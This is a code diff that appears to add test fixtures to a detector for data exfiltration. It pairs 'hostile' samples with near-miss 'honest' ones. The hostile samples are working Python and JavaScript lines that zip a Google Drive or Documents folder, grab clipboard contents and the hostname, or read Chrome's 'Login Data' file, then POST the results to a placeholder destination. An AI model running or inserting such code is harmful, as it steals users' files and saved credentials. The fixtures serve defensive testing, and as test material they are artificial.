@@ -48,6 +48,29 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         ),
     },
     "secrets_sent": {
+        "a whole drive, as a notebook shows it": py(
+            "import shutil, requests\na = shutil.make_archive('/tmp/a', 'zip', '/content/drive/MyDrive')\n"
+            f"requests.post('{_TO}', files={{'a': open(a, 'rb')}})\n"
+        ),
+        "the documents of a user": py(
+            "import os, shutil, requests\n"
+            "a = shutil.make_archive('/tmp/a', 'zip', os.path.expanduser('~/Documents'))\n"
+            f"requests.post('{_TO}', files={{'a': open(a, 'rb')}})\n",
+            "review",
+        ),
+        "what was copied, and on whose machine": py(
+            "import pyperclip, requests, socket\n"
+            f"requests.post('{_TO}', json={{'t': pyperclip.paste(), 'h': socket.gethostname()}})\n"
+        ),
+        "what was copied, by a program": js(
+            "const { execSync } = require('child_process'), os = require('os');\n"
+            f"fetch('{_TO}', {{ method: 'POST', body: execSync('pbpaste') + os.userInfo().username }});\n"
+        ),
+        "a store of a browser, from a folder that is entered": py(
+            "import os, requests\nos.chdir(os.path.expanduser('~/.config/google-chrome/Default'))\n"
+            f"requests.post('{_TO}', data=open(os.path.join(os.getcwd(), 'Login Data'), 'rb').read())\n",
+            line=3,
+        ),
         "the source of every caller": py(
             f"import inspect, requests\ndef f():\n    for each in inspect.stack()[1:]:\n"
             f"        requests.post('{_TO}', data=open(each.filename).read())\n",
@@ -132,6 +155,19 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         ),
     },
     "secrets_sent": {
+        "a folder of a drive": py(
+            "import shutil, requests\na = shutil.make_archive('/tmp/a', 'zip', '/content/drive/MyDrive/contest/m')\n"
+            f"requests.post('{_TO}', files={{'a': open(a, 'rb')}})\n"
+        ).files,
+        "a drive is mounted, and something else sent": py(
+            "from google.colab import drive\nimport requests\ndrive.mount('/content/drive')\n"
+            f"requests.post('{_TO}', files={{'a': open('data/a.csv', 'rb')}})\n"
+        ).files,
+        "logs where it is started, by the ids of wallets": js(
+            "const fs = require('fs'), path = require('path');\n"
+            "const base = path.join(process.cwd(), 'logs', 'nkbihfbeogaeaoehlefnkodbefgpgknn');\n"
+            f"fetch('{_TO}', {{ method: 'POST', body: fs.readFileSync(path.join(base, 'a')) }});\n"
+        ).files,
         "the lines of every caller": py(
             f"import inspect, requests\nfor each in inspect.stack()[1:]:\n"
             f"    requests.post('{_TO}', json={{each.filename: each.lineno}})\n"
